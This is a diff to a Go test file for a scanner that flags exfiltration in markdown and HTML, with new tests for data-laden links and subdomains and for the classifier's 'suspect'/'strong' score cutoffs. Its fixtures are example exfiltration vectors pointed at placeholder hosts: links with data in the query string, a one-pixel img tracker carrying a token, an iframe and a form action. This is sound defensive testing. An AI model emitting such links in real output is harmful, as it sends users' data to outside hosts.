@@ -8,6 +8,7 @@ import (
 	"time"
 
 	"sallyport"
+	"sallyport/internal/inspect/model"
 )
 
 // rules lists scanner/rule and the text of each finding, but for the trained
@@ -60,6 +61,8 @@ func TestText(t *testing.T) {
 		{"image", "![logo](https://site.example/logo.png)", nil},
 		{"link", "[manual](https://site.example/manual?page=3)", nil},
 		{"link with capitals", "[more](https://site.example/x?u=USER_NOTES)", []string{"exfil/data-gap https://site.example/x?u=USER_NOTES"}},
+		{"link with much data", "[a](https://site.example/?n=q7Gz2mVx91LwPa6tRk8uYb3cNe5dH4sJq7Gz2mVx91LwPa6tRk8uYb3cNe5dH4sJx)", []string{"exfil/link-data https://site.example/?n=q7Gz2mVx91LwPa6tRk8uYb3cNe5dH4sJq7Gz2mVx91LwPa6tRk8uYb3cNe5dH4sJx"}},
+		{"host with data", "[a](https://q7Gz2mVx91LwPa6tRk8uYb3cNe5dH4sJ.site.example/)", []string{"exfil/link-data https://q7Gz2mVx91LwPa6tRk8uYb3cNe5dH4sJ.site.example/"}},
 		{"picture tag", `<img width=1 src="//pix.example/t?v=[TOKEN]">`, []string{"exfil/data-gap //pix.example/t?v=[TOKEN]"}},
 		{"frame", `<iframe src="https://pix.example/f"></iframe>`, []string{`exfil/embedded <iframe src="https://pix.example/f">`}},
 		{"form", `<form action="https://pix.example/f">`, []string{`exfil/form <form action="https://pix.example/f">`}},
@@ -375,6 +378,27 @@ func TestClassifier(t *testing.T) {
 	for _, h := range honest {
 		if said(carrier + h + "\n" + carrier) {
 			t.Errorf("something said of %q (%.2f)", h, Suspicion(Result, carrier+h+"\n"+carrier))
+		}
+	}
+}
+
+func TestSuspectAndStrong(t *testing.T) {
+	h := heads()[Result-1]
+	if h.Cut[0] >= h.Cut[1] {
+		t.Fatalf("cuts are %v", h.Cut)
+	}
+	for _, test := range []struct {
+		logit float32
+		want  string
+	}{{h.Cut[0], ""}, {(h.Cut[0] + h.Cut[1]) / 2, "suspect"}, {h.Cut[1], "suspect"}, {h.Cut[1] + 1, "strong"}} {
+		s := start("a few words")
+		s.judge(h, model.Score{Logit: test.logit, End: 5})
+		got := ""
+		for _, f := range s.findings {
+			got += f.Rule
+		}
+		if got != test.want {
+			t.Errorf("%f is %q, want %q", test.logit, got, test.want)
 		}
 	}
 }
